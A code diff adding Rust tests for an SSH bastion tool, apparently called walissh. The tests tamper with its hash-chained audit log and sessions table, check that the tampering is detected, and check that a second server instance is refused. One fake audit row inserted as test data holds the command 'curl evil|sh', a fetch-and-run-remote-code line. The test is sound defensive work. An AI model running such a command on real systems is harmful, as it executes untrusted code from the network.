@@ -223,6 +223,61 @@ fn rows_edited_deleted_inserted_or_cut_away_are_found() {
         Some(2),
         "no hash",
     );
+    // Every hash gone: no "older rows" to hide behind.
+    broken_by(
+        &b,
+        || {
+            sql(&b, "UPDATE events SET hash = NULL");
+        },
+        Some(1),
+        "no hash",
+    );
+    // A row put before the first.
+    let before = "INSERT INTO events (seq, ts, kind, fields) VALUES (0, '2026-01-01T00:00:00Z', 'exec', '{\"command\":\"curl evil|sh\"}')";
+    broken_by(
+        &b,
+        || {
+            sql(&b, before);
+        },
+        Some(0),
+        "no hash",
+    );
+    // The sessions table is checked against the chained session_start.
+    broken_by(
+        &b,
+        || {
+            sql(&b, "UPDATE sessions SET user = 'alice'");
+        },
+        None,
+        "sessions table",
+    );
+    broken_by(
+        &b,
+        || {
+            sql(&b, "UPDATE sessions SET recording = NULL");
+        },
+        None,
+        "sessions table",
+    );
+}
+
+#[test]
+fn a_second_walissh_on_the_same_state_is_refused() {
+    let b = Bastion::start();
+    let out = Command::new(walissh_bin())
+        .args(["serve", "--config"])
+        .arg(&b.config)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("another walissh serves this state directory"),
+        "{}",
+        stderr(&out)
+    );
+    // The first goes on.
+    let out = exec(b.ssh_bob("bob:web1"), "echo STILL-$((1+1))");
+    assert!(stdout(&out).contains("STILL-2"));
 }
 
 #[test]
